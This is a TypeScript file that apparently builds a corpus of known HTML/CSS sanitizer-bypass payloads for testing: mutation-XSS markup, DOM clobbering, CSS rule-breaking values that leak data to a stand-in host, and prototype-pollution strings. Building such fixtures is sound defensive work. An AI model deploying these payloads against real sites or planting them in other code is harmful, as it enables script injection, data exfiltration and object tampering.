/*
 * What has got past cleaners of HTML and of style sheets, by its grammar: markup that means another thing when it is
 * read again (namespaces, raw text, depth), names that hide a page's own, values that ask a host for something or end
 * a rule, and keys that reach prototypes.
 */

const call = "alert(1)";
const image = `<img src=x onerror=${call}>`;
const leak = "https://leak.invalid/x";

const foreign: readonly (readonly [root: string, point: string])[] = [
  ["math", "mtext"],
  ["math", "mi"],
  ["math", 'annotation-xml encoding="text/html"'],
  ["math", 'annotation-xml encoding="application/xhtml+xml"'],
  ["svg", "foreignObject"],
  ["svg", "desc"],
  ["svg", "title"],
];
const rawTexts = ["style", "title", "textarea", "noscript", "noembed", "xmp", "iframe", "template", "script"];
const nested: readonly ((root: string, point: string, raw: string) => string)[] = [
  (root, point, raw) => `<${root}><${point}><table><mglyph><${raw}><!--</${raw}>${image}-->`,
  (root, point, raw) => `<form><${root}><${point}></form><form><mglyph><${raw}></${root}>${image}`,
  (root, point, raw) => `<${root}><${point}><${raw}><a id="</${raw}>${image}">x</a>`,
  (root, _point, raw) => `<${root}></p><${raw}><![CDATA[</${raw}>${image}]]>`,
  (root, point, raw) => `<${root}><${point}><p><${raw}><g title="</${raw}>${image}"></g></${raw}>`,
];
const namespaces = [
  ...foreign.flatMap(([root, point], row) =>
    rawTexts.map((raw, column) => (nested[(row + column) % nested.length] ?? String)(root, point, raw)),
  ),
  ...rawTexts.map((raw) => `<noscript><${raw} title="</noscript>${image}">`),
  ...rawTexts.map((raw) => `<${raw}><!--</${raw}>--!>${image}-->`),
  `${"<div>".repeat(512)}<math><mtext><style>${image}`,
  `${"<svg><g>".repeat(260)}<style></g>${image}`,
  `${"<b>".repeat(300)}<table><svg><desc>${image}`,
  `<table><select><keygen><svg><style>${image}`,
  `<?x ><a title="?>${image}">`,
  `<!x ><a title="]>${image}">`,
  `<div><template shadowrootmode=open>${image}<slot></template></div>`,
  `<div><template shadowrootmode=closed shadowrootserializable><script>${call}</script></template></div>`,
  `<p is="x-y" onx=${call}>${image}`,
  `<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48aW1hZ2UgaHJlZj0iMSIgb25lcnJvcj0iYWxlcnQoMSkiLz48L3N2Zz4=#x"/></svg>`,
  ...["href", "xlink:href"].flatMap((name) =>
    ["animate", "set", "animateTransform", "animateMotion"].map(
      (tag) =>
        `<svg><a><${tag} attributeName=${name} values=javascript:${call} to=javascript:${call} begin=0s dur=9s fill=freeze /><text y=9>x</text></a></svg>`,
    ),
  ),
];

const names = [
  "attributes",
  "nodeName",
  "parentNode",
  "firstChild",
  "childNodes",
  "innerHTML",
  "textContent",
  "body",
  "head",
  "cookie",
  "currentScript",
  "documentElement",
  "getElementById",
  "querySelector",
  "createElement",
  "defaultView",
  "location",
  "customElements",
  "adoptedStyleSheets",
  "Banter",
  "Typebot",
  "__ENV",
  "submit",
  "action",
  "elements",
  "hasOwnProperty",
  "__proto__",
];
const hidings: readonly ((name: string) => string)[] = [
  (name) => `<img name=${name}><img id=${name}>`,
  (name) => `<form id=${name}><input name=${name}><input name=${name}></form>`,
  (name) => `<a id=${name}></a><a id=${name} name=x href="cid:${call}">x</a>`,
  (name) => `<iframe name=${name} srcdoc="<a id=x href=javascript:${call}>"></iframe>`,
  (name) => `<object id=${name}><embed name=${name}></object>`,
  (name) => `## ${name}\n\n[x](#${name})`,
  (name) => name,
];
const clobbering = names.flatMap((name, row) =>
  [0, 3, 5].map((offset) => (hidings[(row + offset) % hidings.length] ?? String)(name)),
);

const fetches = [
  `url(${leak})`,
  `url("${leak}")`,
  `u\\72l(${leak})`,
  `\\000075rl(${leak})`,
  `u/**/rl(${leak})`,
  `URL( ${leak} )`,
  `src("${leak}")`,
  `image("${leak}")`,
  `image-set("${leak}" 1x)`,
  `-webkit-image-set(url(${leak}) 1x)`,
  `cross-fade(url(${leak}), red)`,
  `var(--missing, url(${leak}))`,
  `env(missing, url(${leak}))`,
  `attr(title type(<url>), url(${leak}))`,
  `light-dark(url(${leak}), red)`,
  `paint(x, url(${leak}))`,
  `element(#x)`,
  `expression(${call})`,
  `url(javascript:${call})`,
  `url('data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>')`,
];
/** In two parts, so that no reader of imports takes it for one. */
const sheetImport = ["@", "import"].join("");
const ends: readonly ((value: string) => string)[] = [
  (value) => value,
  (value) => `red;background:${value}`,
  (value) => `red}*{background-image:${value}`,
  (value) => `red}input[value^=a]{list-style-image:${value}}a{`,
  (value) => `red !important;--x:${value};cursor:${value},auto`,
];
const sheets = [
  ...fetches.flatMap((value, row) =>
    [0, 2].map((offset) => (ends[(row + offset) % ends.length] ?? String)(value)),
  ),
  `red}${sheetImport} '${leak}';{`,
  `${sheetImport}\\20 url(${leak});`,
  `\\40 import url(${leak});`,
  `red}@font-face{font-family:x;src:url(${leak});unicode-range:U+41}*{font-family:x`,
  `red}@namespace url(${leak});@charset "x";{`,
  `red}@property --x{syntax:"*";inherits:true;initial-value:url(${leak})}{`,
  `red;-moz-binding:url(${leak}#x);behavior:url(${leak})`,
  `red</style>${image}`,
  `"}</style>${image}`,
  `\u2028}*{background:url(${leak})}`,
  `red/*`,
  `red<!--`,
  `{{{{`,
  `}}}}`,
];

const pollution = [
  '{"__proto__":{"polluted":"yes"}}',
  '{"constructor":{"prototype":{"polluted":"yes"}}}',
  '[{"__proto__":{"polluted":"yes"}}]',
  "__proto__[polluted]=yes",
  "constructor[prototype][polluted]=yes",
  "__proto__.polluted",
  "constructor.prototype.polluted",
  "[](__proto__)\n\n[__proto__]: x 'polluted'\n\n[__proto__]",
  "[^__proto__]\n\n[^__proto__]: polluted",
  "| __proto__ |\n|-|\n| constructor |",
  "```__proto__\nx\n```",
  "```constructor\nx\n```",
  "&__proto__; &constructor; &toString;",
  '{"isFromBanter":true,"command":"__proto__","message":{"__proto__":{"polluted":"yes"}}}',
];

export const knownTricks: Readonly<Record<string, readonly string[]>> = {
  namespaces,
  clobbering,
  sheets,
  pollution,
};
